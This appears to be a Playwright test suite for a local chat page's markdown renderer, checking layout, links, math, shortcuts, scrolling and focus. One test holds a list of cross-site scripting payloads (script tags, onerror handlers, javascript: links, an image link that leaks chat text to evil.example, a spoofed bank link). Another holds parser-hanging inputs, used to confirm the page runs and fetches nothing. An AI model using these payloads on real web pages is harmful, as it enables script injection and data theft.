"""How the local ChatGPT's page draws what a model says, in a real Chromium."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

import kit
from kit.demo import make_plugin
from kit.web.page import LocalChatGPT

pytest.importorskip("playwright")
from lab import browser_program, browsing
from pagetabs import Tab
from playwright.sync_api import Browser, expect

pytestmark = pytest.mark.skipif(browser_program() is None, reason="no Chromium: apt-get install chromium")

ANSWER = r"""## Trains on *Friday*

The fastest takes **4 h 5 min**, see [the timetable](https://example.com/a?b=1&c=2) or https://example.com/plain.

| From | To | Leaves | Arrives | Price | Operator | Remarks |
|:-----|:---|:------:|--------:|------:|----------|---------|
| Munich | Hamburg | 08:15 | 12:20 | 59,90 € | Deutsche Bahn | with a change in Kassel-Wilhelmshöhe |
| Munich | Berlin | 09:00 | 13:05 | 49,90 € | FlixTrain | direct, with bicycles |

```python
def price(distance: float, *, half: bool = False) -> float:
    '''In euros.'''
    return round(distance * 0.18 * (0.5 if half else 1), 2)  # of the second class
```

- [x] look for a train
- [ ] book it
    1. the `seat`
    2. the ticket

The mean is \(\bar x = \frac{1}{n}\sum_{i=1}^n x_i\), it costs $5 and not $10, and

$$\sigma = \sqrt{\frac{1}{n-1}\sum_{i=1}^n (x_i - \bar x)^2}$$

القطار الأسرع يستغرق `4:05` ساعات، انظر الجدول أعلاه.

1. أولاً ميونخ
2. ثانياً هامبورغ

> Said by the operator,
> in two lines.

See [the rules][rules].

[rules]: https://example.com/rules
"""
HOSTILE = r"""<script>window.ran=1</script><img src=x onerror="window.ran=1"> [a](javascript:window.ran=1) [b](data:text/html,x)
![told](https://evil.example/?what=was-said) [c](/api/state) <a href="https://evil.example">d</a> [https://bank.example](https://evil.example/e)

$\href{javascript:window.ran=1}{x} \includegraphics{https://evil.example/i.png} \rule{9999em}{9999em}$ $\kern{-9999em}x$

```"><script>window.ran=1</script>
</code></pre><script>window.ran=1</script>
```

| a<img src=x onerror=window.ran=1> |
|---|
| [x](vbscript:x) |
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as running:
        yield running


@pytest.fixture(scope="module")
def local() -> Iterator[LocalChatGPT]:
    with kit.serve(make_plugin()) as server, kit.chatgpt(server) as running:
        yield running


def opened(browser: Browser, local: LocalChatGPT, width: int = 1100, **options: Any) -> Tab:
    context = browser.new_context(
        viewport={"width": width, "height": 900}, permissions=["clipboard-read", "clipboard-write"], **options
    )
    return Tab(context.new_page(), local.url)


def say(tab: Tab, local: LocalChatGPT, *answers: str) -> None:
    """Opens the chat anew, after the model has said this in it."""
    conversation = local._state.conversation(tab.page.url.partition("#")[2])
    conversation.title = "Which train?"
    log = conversation.log
    for answer in answers:
        log.record("user", text="Which train?", plugins=[])
        log.record("delta", text=answer)
        log.record("done", model="a model", spent="", seconds=1.5, sequence="", sequence_text="")
    tab.page.reload()
    expect(tab.page.locator(".after")).to_have_count(len(answers))


def until(holds: Callable[[], bool]) -> None:
    """Waits: the page's policy allows no `wait_for_function`."""
    end = time.monotonic() + 10
    while not holds():
        assert time.monotonic() < end
        time.sleep(0.05)


@pytest.mark.parametrize(("scheme", "width"), [("light", 1100), ("dark", 380)])
def test_markdown_as_people_expect_it(browser: Browser, local: LocalChatGPT, scheme: Any, width: int) -> None:
    tab = opened(browser, local, width, color_scheme=scheme)
    say(tab, local, ANSWER)
    answer = tab.page.locator(".answer")
    assert tab.page.evaluate("document.documentElement.scrollWidth") <= width
    table = answer.get_by_role("group", name="Table")
    scrolls = table.evaluate("it => it.scrollWidth > it.clientWidth")
    assert scrolls is (width == 380), "in its own box, where it has no room"
    assert table.locator("td.right").first.evaluate("it => getComputedStyle(it).textAlign") == "right"
    links = answer.locator("a").evaluate_all("all => all.map(it => [it.href, it.target, it.rel])")
    assert [link[0] for link in links] == [
        "https://example.com/a?b=1&c=2",
        "https://example.com/plain",
        "https://example.com/rules",
    ]
    assert {tuple(link[1:]) for link in links} == {("_blank", "noopener noreferrer")}
    boxes = answer.get_by_role("checkbox")
    assert boxes.evaluate_all("all => all.map(it => [it.checked, it.disabled])") == [
        [True, True],
        [False, True],
    ]
    expect(answer.get_by_role("checkbox", name="look for a train")).to_be_checked()
    assert answer.locator("math").count() == 2
    assert answer.locator("math mfrac").count() == 2
    expect(answer).to_contain_text("it costs $5 and not $10")
    assert answer.locator("code .hljs-keyword").all_inner_texts()[0] == "def"
    directions = answer.locator("p, ol").evaluate_all(
        "all => all.filter(it => /[ء-ي]/.test(it.textContent)).map(it => getComputedStyle(it).direction)"
    )
    assert directions == ["rtl", "rtl"]
    tab.picture(f"answer-{scheme}-{width}")
    assert tab.findings() == []
    answer.get_by_role("button", name="Copy code").click()
    expect(answer.get_by_role("button", name="Copied")).to_be_focused()
    assert tab.page.evaluate("navigator.clipboard.readText()").startswith("def price(distance: float")
    tab.page.get_by_role("button", name="Copy answer").click()
    expect(tab.page.locator(".after")).to_contain_text("Copied")
    assert tab.page.evaluate("navigator.clipboard.readText()") == ANSWER
    assert tab.slips == []
    tab.page.context.close()


def test_a_hostile_answer_runs_nothing_and_asks_nobody(browser: Browser, local: LocalChatGPT) -> None:
    tab = opened(browser, local)
    urls: list[str] = []
    told: list[str] = []
    tab.page.on("request", lambda request: urls.append(request.url))
    tab.page.on("console", lambda message: told.append(message.text))
    say(tab, local, HOSTILE)
    answer = tab.page.locator(".answer")
    assert tab.page.evaluate("window.ran") is None
    assert answer.locator("script, img, iframe, object, [onerror], [style*=url]").count() == 0
    links = answer.locator("a").evaluate_all("all => all.map(it => [it.textContent, it.title])")
    assert links == [
        ["told", "https://evil.example/?what=was-said"],
        ["https://evil.example", "https://evil.example"],
        ["https://bank.example", "https://evil.example/e"],  # where it leads is shown, whatever it says
    ]
    assert not [url for url in urls if "evil" in url]
    assert not [text for text in told if "Content Security Policy" in text]
    assert answer.bounding_box()["height"] < 2_000  # type: ignore[index]
    tab.picture("hostile-answer")
    tab.page.context.close()


def test_an_answer_that_comes_in_pieces_is_drawn_as_the_whole_and_in_time(
    browser: Browser, local: LocalChatGPT
) -> None:
    tab = opened(browser, local)
    made = tab.page.evaluate(
        """async ([text, words]) => {
            const { Markdown } = await import("./static/markdown.js");
            const html = (node) => node.innerHTML.replace(/task-item-\\d+/g, "task");
            const drawn = (...pieces) => {
                const node = document.createElement("div");
                const one = new Markdown(node);
                for (const piece of pieces) { one.add(piece); one.write(false); }
                one.end(pieces.join(""));
                return html(node);
            };
            const whole = drawn(text);
            const wrong = [];
            for (let at = 1; at < text.length; at += 7) if (drawn(text.slice(0, at), text.slice(at)) !== whole) wrong.push(at);
            if (drawn(...text) !== whole) wrong.push("each");
            const node = document.createElement("div");
            document.getElementById("log").append(node);
            const one = new Markdown(node);
            const began = performance.now();
            for (let at = 0; at < words.length; at += 50) { one.add(words.slice(at, at + 50)); one.draw(); node.offsetHeight; }
            one.end(words);
            node.offsetHeight;
            return [wrong, Math.round(performance.now() - began)];
        }""",
        [
            ANSWER + "\n1. a\n\n2. b\n\n\n- c\n\n  d\n\n      code\n\n- [ ] e\n",
            (ANSWER.replace("[rules]: ", "") + "\n\n") * 40,
        ],
    )
    assert made[0] == []
    assert made[1] < 2_000, "milliseconds for 5,000 words"
    tab.page.context.close()


def test_a_text_that_hangs_others_is_drawn(browser: Browser, local: LocalChatGPT) -> None:
    runs = ["`" * n + "x" for n in range(1200)]
    texts = [
        "".join(runs),
        "> " * 5000 + "a",
        "- " * 5000 + "a",
        "\\(" * 8_000,
        "$a" * 8_000,
        "$" + "{" * 5_000 + "$",
    ]
    texts += ["[a](" * 10_000, "*a **a " * 8_000, "\n".join(" " * 2 * n + "- a" for n in range(300))]
    texts += [r"$\def\a{\a\a}\a$", "```python\n" + "'" * 19_000 + "\n```"]
    tab = opened(browser, local)
    spent = tab.page.evaluate(
        """async (texts) => {
            const { Markdown } = await import("./static/markdown.js");
            return texts.map((text) => {
                const began = performance.now();
                new Markdown(document.createElement("div")).end(text);
                return Math.round(performance.now() - began);
            });
        }""",
        texts,
    )
    assert max(spent) < 3_000, spent
    tab.page.context.close()


def test_the_shortcuts_of_the_page(browser: Browser, local: LocalChatGPT) -> None:
    tab = opened(browser, local)
    say(tab, local, "First.", "It is **so**:\n\n```sh\nls -l\n```\n")
    keys, field = tab.page.keyboard, tab.page.get_by_label("Message")
    read = "navigator.clipboard.readText()"
    keys.press("Control+Shift+C")
    expect(tab.page.get_by_role("status").last).to_have_text("Copied the last answer")
    assert tab.page.evaluate(read) == "It is **so**:\n\n```sh\nls -l\n```\n"
    keys.press("Control+Shift+;")
    expect(tab.page.get_by_role("status").last).to_have_text("Copied the last code")
    assert tab.page.evaluate(read) == "ls -l\n"
    keys.press("Control+/")
    dialog = tab.page.get_by_role("dialog", name="Shortcuts")
    expect(dialog).to_contain_text("New chat")
    has_search = tab.page.evaluate("Boolean(document.getElementById('search'))")
    expect(dialog.get_by_text("Search chats")).to_have_count(int(has_search))
    tab.picture("shortcuts")
    assert tab.findings() == []
    keys.press("Control+Shift+O")  # what is open comes first
    expect(dialog).to_be_visible()
    keys.press("Escape")
    expect(dialog).to_be_hidden()
    expect(field).to_be_focused()
    keys.type("is it so?")  # a sign like others, while one writes
    expect(field).to_have_value("is it so?")
    tab.page.locator("#pick").focus()
    keys.press("?")
    expect(dialog).to_be_visible()
    keys.press("Escape")
    expect(tab.page.locator("#pick")).to_be_focused()
    keys.press("Shift+Escape")
    expect(field).to_be_focused()
    keys.press("Control+Shift+O")
    expect(tab.page.locator(".user")).to_have_count(0)
    expect(field).to_be_focused()
    keys.press("Control+Shift+C")
    expect(tab.page.get_by_role("status").last).to_have_text("There is no answer yet")
    assert tab.slips == []
    tab.page.context.close()


def test_who_reads_further_up_is_left_there(browser: Browser, local: LocalChatGPT) -> None:
    tab = opened(browser, local)
    say(tab, local, *[ANSWER] * 12)
    until(lambda: tab.page.locator(".answer math").count() == 24)  # those further up later, but all
    button = tab.page.get_by_role("button", name="Jump to the end")
    view = tab.page.locator("#scroll")
    rest = "it => Math.round(it.scrollHeight - it.scrollTop - it.clientHeight)"
    expect(button).to_be_hidden()
    view.hover()
    tab.page.mouse.wheel(0, -60)  # a little is enough
    until(lambda: view.evaluate(rest) > 30)
    there = view.evaluate("it => it.scrollTop")
    log = local._state.conversation(tab.page.url.partition("#")[2]).log
    log.record("user", text="And from another tab?", plugins=[])
    log.record("delta", text=ANSWER * 3)
    tab.page.evaluate("dispatchEvent(new Event('focus'))")
    expect(button).to_be_visible()
    assert abs(view.evaluate("it => it.scrollTop") - there) < 2
    tab.picture("further-up")
    assert tab.findings() == []
    button.click()
    expect(button).to_be_hidden()
    expect(tab.page.get_by_label("Message")).to_be_focused()
    until(lambda: view.evaluate(rest) < 2)
    tab.page.context.close()


def test_the_focus_never_falls_to_the_body(browser: Browser, local: LocalChatGPT) -> None:
    tab = opened(browser, local)
    keys, field = tab.page.keyboard, tab.page.get_by_label("Message")

    def focused() -> str:
        return str(tab.page.evaluate("document.activeElement.id || document.activeElement.localName"))

    field.fill("مرحبا sam")
    assert field.evaluate("it => getComputedStyle(it).direction") == "rtl"
    for text in ("Add 'tea' to sam's list", "Add 'milk' to sam's list"):
        tab.say(text)
        expect(tab.page.get_by_role("button", name="Deny")).to_be_visible()
        tab.page.get_by_role("button", name="Stop").focus()
        keys.press("Enter")
        tab.wait()
        assert focused() == "text"
        keys.press("Control+Shift+O")
        expect(tab.page.locator(".user")).to_have_count(0)
    chats = tab.page.locator("#chats .title")
    chats.first.focus()
    tab.page.evaluate(
        "document.querySelector('#chats').replaceChildren(...[...document.querySelectorAll('#chats li')].map(it => it.cloneNode(true)))"
    )
    expect(chats.first).to_be_focused()  # a list that is drawn anew keeps it
    tab.page.reload()
    expect(chats.nth(1)).to_be_visible()
    count = chats.count()
    tab.page.get_by_role("button", name="Delete chat").first.focus()
    keys.press("Enter")
    expect(chats).to_have_count(count - 1)
    tab.page.wait_for_timeout(100)
    assert focused() != "body"
    tab.page.locator("#pick").click()
    tab.page.locator("#develop").click()
    keys.press("Escape")
    expect(tab.page.locator("#store")).to_be_hidden()
    assert focused() != "body"
    assert tab.slips == []
    tab.page.context.close()
